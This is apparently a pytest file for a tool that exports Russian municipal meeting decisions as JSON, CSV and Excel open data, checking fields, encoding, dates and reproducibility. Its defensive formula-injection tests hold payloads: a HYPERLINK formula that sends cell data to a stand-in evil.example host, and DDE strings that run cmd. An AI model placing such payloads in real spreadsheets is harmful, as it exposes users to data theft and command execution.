"""Open data: every decision in JSON and CSV, with the data contract's field names, and in an Excel workbook for
people (read back with openpyxl)."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from build_tools import urls
from build_tools.opendata import (DEADLINE_FIELDS, DECISION_FIELDS, PROTOCOL_FIELDS, STATUS_FIELDS, csv_columns,
                                  data_files)
from build_tools.pipeline import load_knowledge_base
from build_tools.russian import DEADLINE_KIND_WORDS, STATE_WORDS
from build_tools.spreadsheet import COLUMNS, SHEET_NAME, decisions_xlsx

REPO_ROOT = Path(__file__).resolve().parent.parent
SITE_URL = "https://example.org/protocols/"
# Fields the open data derives rather than copies from the contract.
DERIVED = {"protocol", "url", "inherited_assignees", "current_deadline", "followed_by", "outcome", "progress"}
JANUARY, MARCH = "uo-test/2020-01-15-soveshchanie", "uo-test/2020-03-02-soveshchanie"
HEADINGS = [column.heading for column in COLUMNS]


@pytest.fixture(scope="module")
def knowledge_base():
    return load_knowledge_base(REPO_ROOT).knowledge_base


@pytest.fixture(scope="module")
def published(knowledge_base):
    return data_files(knowledge_base, site_url=SITE_URL)


@pytest.fixture(scope="module")
def authorities(knowledge_base) -> list[str]:
    return sorted({protocol.authority for protocol in knowledge_base.protocols})


@pytest.fixture(scope="module")
def json_records(published, authorities):
    return [record for authority in authorities
            for record in json.loads(published[urls.authority_data(authority, "json")])["decisions"]]


@pytest.fixture(scope="module")
def csv_rows(published, authorities):
    return [row for authority in authorities for row in csv.DictReader(io.StringIO(
        published[urls.authority_data(authority, "csv")].decode("utf-8-sig")))]


def every_decision(knowledge_base):
    """(protocol, decision) of every decision: by authority, then newest protocol first, in document order."""
    protocols = sorted(knowledge_base.protocols, key=lambda protocol: protocol.authority)  # stable: newest first
    return [(protocol.id, decision.id) for protocol in protocols for decision in protocol.decisions]


def test_every_authority_has_its_files_and_no_file_holds_them_all(published, authorities):
    assert sorted(published) == sorted(urls.authority_data(authority, suffix)
                                       for authority in authorities for suffix in ("json", "csv", "xlsx"))


def test_the_files_of_some_authorities_are_theirs(knowledge_base, published):
    chosen = data_files(knowledge_base, site_url=SITE_URL, authorities={"uo-nazarovo"})
    assert chosen == {path: published[path] for path in published if "/uo-nazarovo/" in path}


def test_json_holds_every_decision_once(knowledge_base, json_records):
    assert [(record["protocol"], record["id"]) for record in json_records] == every_decision(knowledge_base)


def test_csv_holds_every_decision_once(knowledge_base, csv_rows):
    assert [(row["protocol"], row["id"]) for row in csv_rows] == every_decision(knowledge_base)


def test_field_names_are_those_of_the_data_contract(json_records):
    schema = json.loads((REPO_ROOT / "schema/protocol.schema.json").read_text(encoding="utf-8"))
    protocol_properties = set(schema["properties"])
    decision_properties = set(schema["$defs"]["decision"]["properties"])
    assert set(PROTOCOL_FIELDS) - DERIVED <= protocol_properties
    assert set(DECISION_FIELDS) - DERIVED <= decision_properties
    assert set(DEADLINE_FIELDS) == set(schema["$defs"]["deadline"]["properties"])
    assert set(STATUS_FIELDS) == set(schema["$defs"]["status"]["properties"])
    for record in json_records:
        assert list(record) == [*PROTOCOL_FIELDS, *DECISION_FIELDS]
        assert record["deadline"] is None or list(record["deadline"]) == list(DEADLINE_FIELDS)
        assert list(record["status"]) == list(STATUS_FIELDS)


def test_the_contract_fields_people_ask_for_are_there(json_records, csv_rows):
    wanted = ["authority", "date", "id", "text", "assignees", "responsible"]
    assert all(field in json_records[0] for field in [*wanted, "deadline", "status"])
    assert all(field in csv_rows[0] for field in [*wanted, "deadline.text", "deadline.due", "status.state"])


def test_one_decision_in_both_formats(json_records, csv_rows):
    key = ("uo-nazarovo/2022-01-12-soveshchanie-rukovoditelej-oo", "1")
    record = next(record for record in json_records if (record["protocol"], record["id"]) == key)
    row = next(row for row in csv_rows if (row["protocol"], row["id"]) == key)

    assert record["authority"] == row["authority"] == "uo-nazarovo"
    assert record["date"] == row["date"] == "2022-01-12"
    assert record["url"] == row["url"] == SITE_URL + "protocols/uo-nazarovo/2022-01-12-soveshchanie-rukovoditelej-oo/#d-1"
    assert record["assignees"] == ["nazarovo-heads-oo"]
    assert record["responsible"] == ["ozhegova-aa"] and row["responsible"] == "ozhegova-aa"
    assert record["deadline"] == {"text": "в соответствии с графиком проведения независимых оценочных процедур",
                                  "kind": "schedule", "start": None, "due": None, "inferred": False,
                                  "recurrence": None}
    assert (row["deadline.kind"], row["deadline.due"], row["deadline.inferred"]) == ("schedule", "", "false")
    assert record["status"] == {"state": "open", "date": None, "note": None, "reference": None, "link": None}
    assert record["outcome"] == {"state": "open", "date": None, "by": None}
    assert (record["current_deadline"], record["links"], record["execution"], record["progress"]) == (None, [], [], None)
    assert row["tags"] == "независимые оценочные процедуры; общественное наблюдение"


def test_csv_opens_in_excel_with_cyrillic(published):
    content = published[urls.authority_data("uo-nazarovo", "csv")]

    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark: Excel reads the file as UTF-8
    header = content[3:].split(b"\r\n", 1)[0].decode("utf-8")
    assert header.split(",") == csv_columns()
    assert "Назарово".encode() in content


def test_same_knowledge_base_same_bytes(knowledge_base, published):
    assert data_files(knowledge_base, site_url=SITE_URL) == published


def test_the_accountability_facts_of_the_fixture_knowledge_base(kb):
    """An extended deadline with its original, a link both ways, the marks of executors, in both formats."""
    files = data_files(load_knowledge_base(kb).knowledge_base, site_url=SITE_URL)
    records = {(record["protocol"], record["id"]): record
               for record in json.loads(files[urls.authority_data("uo-test", "json")])["decisions"]}
    rows = {(row["protocol"], row["id"]): row
            for row in csv.DictReader(io.StringIO(files[urls.authority_data("uo-test", "csv")].decode("utf-8-sig")))}

    extended = records[(JANUARY, "2.1")]
    assert extended["deadline"]["due"] == "2020-01-24"
    assert extended["current_deadline"] == {"text": "до 20.03.2020", "kind": "by", "start": None, "due": "2020-03-20",
                                            "inferred": False, "recurrence": None, "date": "2020-03-02",
                                            "by": f"{MARCH}#1"}
    assert rows[(JANUARY, "2.1")]["current_deadline.due"] == "2020-03-20"
    assert records[(JANUARY, "2")]["followed_by"] == [{"type": "executes", "protocol": MARCH, "decision": "2",
                                                       "date": "2020-03-02"}]
    assert rows[(JANUARY, "2")]["followed_by"] == f"executes {MARCH}#2 2020-03-02"

    reported = records[(MARCH, "2")]
    assert reported["links"][0]["type"] == "executes" and rows[(MARCH, "2")]["links"] == f"executes {JANUARY}#2"
    assert reported["execution"] == [{"assignee": "school-1", "state": "done", "date": "2020-03-12", "note": None,
                                      "reference": "письмо от 12.03.2020 № 45", "link": None}]
    assert reported["progress"] == {"executors": 2, "done": 1, "excused": 0, "pending": ["school-2"]}
    assert (rows[(MARCH, "2")]["execution"], rows[(MARCH, "2")]["progress.pending"]) == (
        "school-1 done 2020-03-12", "school-2")


# --- the Excel workbook ---------------------------------------------------------------------------

def read_sheet(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == [SHEET_NAME]
    return workbook, workbook[SHEET_NAME]


def rows_by_decision(sheet) -> dict[tuple[str, str], dict[str, object]]:
    """(protocol id, decision id) → heading → value."""
    records = [dict(zip(HEADINGS, values)) for values in sheet.iter_rows(min_row=2, values_only=True)]
    return {(record["Протокол (id)"], record["Пункт"]): record for record in records}


@pytest.fixture
def fixture_kb(kb):
    return load_knowledge_base(kb).knowledge_base


@pytest.fixture
def fixture_rows(fixture_kb):
    files = data_files(fixture_kb, site_url=SITE_URL)
    return rows_by_decision(read_sheet(files[urls.authority_data("uo-test", "xlsx")])[1])


def test_every_decision_is_a_row_in_the_order_of_the_csv(knowledge_base, published):
    for authority in sorted({protocol.authority for protocol in knowledge_base.protocols}):
        _, sheet = read_sheet(published[urls.authority_data(authority, "xlsx")])
        expected = [(protocol.id, decision.id) for protocol in knowledge_base.protocols
                    if protocol.authority == authority for decision in protocol.decisions]
        assert [(row[HEADINGS.index("Протокол (id)")], row[HEADINGS.index("Пункт")])
                for row in sheet.iter_rows(min_row=2, values_only=True)] == expected


def test_headings_are_russian_frozen_and_filtered(published):
    _, sheet = read_sheet(published[urls.authority_data("uo-nazarovo", "xlsx")])
    headings = [cell.value for cell in sheet[1]]

    assert headings[:7] == ["Дата заседания", "Документ", "Номер", "Тема", "Пункт", "Вопрос повестки", "Решение"]
    assert all(heading and not heading.isascii() for heading in headings)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(COLUMNS)).column_letter}{sheet.max_row}"
    assert sheet.column_dimensions["G"].width > sheet.column_dimensions["E"].width  # the text, wider than «3.2»


def test_names_stand_next_to_ids(fixture_rows):
    assigned, responsible = fixture_rows[(MARCH, "2")], fixture_rows[(JANUARY, "2.1")]

    assert (assigned["Исполнители"], assigned["Исполнители (id)"]) == (
        "руководители общеобразовательных организаций", "test-heads-oo")
    assert (responsible["Ответственные"], responsible["Ответственные (id)"]) == ("Петров Б. Б.", "petrov-bb")
    assert responsible["Исполнители"] == "руководители общеобразовательных организаций"  # from the heading «2»
    assert (assigned["Исполнение"], assigned["Не отметились"]) == ("выполнено 1 из 2", "МБОУ «СОШ № 2»")


@pytest.mark.parametrize("key, state, status_date", [
    ((JANUARY, "1"), "open", None),
    ((JANUARY, "2.2"), "done", datetime(2020, 4, 20)),
])
def test_statuses_are_russian_words(fixture_rows, key, state, status_date):
    assert (fixture_rows[key]["Статус"], fixture_rows[key]["Дата статуса"]) == (STATE_WORDS[state], status_date)


def test_the_deadline_in_force_with_the_original_one(fixture_rows):
    extended = fixture_rows[(JANUARY, "2.1")]

    assert (extended["Срок"], extended["Вид срока"], extended["Срок исполнения"]) == (
        "до 20.03.2020", DEADLINE_KIND_WORDS["by"], datetime(2020, 3, 20))
    assert (extended["Первоначальный срок"], extended["Срок изменён"]) == ("до 24.01.2020 г.", datetime(2020, 3, 2))
    month = fixture_rows[(JANUARY, "2.2")]
    assert (month["Вид срока"], month["Начало периода"], month["Срок исполнения"]) == (
        "месяц", datetime(2020, 4, 1), datetime(2020, 4, 30))


def test_dates_are_excel_dates_shown_the_russian_way(fixture_kb):
    files = data_files(fixture_kb, site_url=SITE_URL)
    _, sheet = read_sheet(files[urls.authority_data("uo-test", "xlsx")])
    dates = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.is_date]

    assert {cell.column for cell in dates} == {HEADINGS.index(heading) + 1 for heading in (
        "Дата заседания", "Начало периода", "Срок исполнения", "Срок изменён", "Дата статуса")}
    assert {cell.number_format for cell in dates} == {"dd.mm.yyyy"}


def test_every_deadline_kind_and_state_has_a_russian_word():
    from build_tools.deadlines import KINDS
    from build_tools.model import State

    assert sorted(DEADLINE_KIND_WORDS) == sorted(KINDS)
    assert sorted(STATE_WORDS) == sorted(state.value for state in State)


@pytest.mark.parametrize("text", [
    '=HYPERLINK("https://evil.example","Нажмите")',
    "=1+2",
    "+7 (391) 555-12-34",
    "-2+3",
    "@SUM(A1:A2)",
    "0012",
    "1.10",
    "2020-03-02",
    "TRUE",
    "https://example.org/",
])
def test_texts_stay_texts(fixture_kb, text):
    """Nothing a document says becomes a formula, a number, a date or a link in Excel."""
    protocol = fixture_kb.protocols[0]
    decision = dataclasses.replace(protocol.decisions[0], id=text, text=text, agenda=text)
    protocol = dataclasses.replace(protocol, title=text, number=text, decisions=(decision,))
    _, sheet = read_sheet(decisions_xlsx([protocol], fixture_kb.registry, site_url=SITE_URL))
    cells = [sheet.cell(2, HEADINGS.index(heading) + 1) for heading in ("Номер", "Тема", "Пункт", "Вопрос повестки",
                                                                         "Решение")]

    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s")] * len(cells)
    assert not sheet._hyperlinks


def test_same_knowledge_base_same_bytes_at_any_time(knowledge_base, published):
    """The workbook is dated by the latest meeting, not by the clock; the archive's times are XlsxWriter's fixed
    ones (31 January 1980)."""
    content = published[urls.authority_data("uo-nazarovo", "xlsx")]
    workbook, _ = read_sheet(content)
    latest = max(protocol.date for protocol in knowledge_base.protocols if protocol.authority == "uo-nazarovo")

    assert workbook.properties.created == datetime(latest.year, latest.month, latest.day)
    assert {info.date_time[0] for info in zipfile.ZipFile(io.BytesIO(content)).infolist()} == {1980}
    assert data_files(knowledge_base, site_url=SITE_URL) == published


FORMULAS = [  # what a spreadsheet would run, as OWASP lists the starts of a formula
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"Подробнее\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote_in_csv_and_stays_as_written_in_json(kb, formula):
    protocol = kb / "protocols/uo-test/2020-03-02-soveshchanie.md"
    source = protocol.read_text(encoding="utf-8")
    protocol.write_text(source.replace("reference: письмо от 12.03.2020 № 45", f"reference: {json.dumps(formula)}")
                        .replace("number: \"2\"", f"number: {json.dumps(formula)}"), encoding="utf-8")
    files = data_files(load_knowledge_base(kb).knowledge_base, site_url=SITE_URL)
    [row] = [row for row in csv.DictReader(io.StringIO(files[urls.authority_data("uo-test", "csv")]
                                                        .decode("utf-8-sig"))) if row["id"] == "2" and
             row["protocol"].endswith("03-02-soveshchanie")]
    [record] = [record for record in json.loads(files[urls.authority_data("uo-test", "json")])["decisions"]
                if record["id"] == "2" and record["protocol"].endswith("03-02-soveshchanie")]

    assert row["number"] == "'" + formula
    assert record["number"] == formula
    assert record["execution"][0]["reference"] == formula


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+7 (391) 555-12-34", "'+7 (391) 555-12-34"), ("-5", "'-5"), ("@user", "'@user"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("", ""), ("Принять к сведению", "Принять к сведению"),
    ("1 = 1", "1 = 1"), ("'=1", "'=1"),
])
def test_spreadsheet_cell(text, cell):
    from build_tools.tabular import spreadsheet_cell

    assert spreadsheet_cell(text) == cell
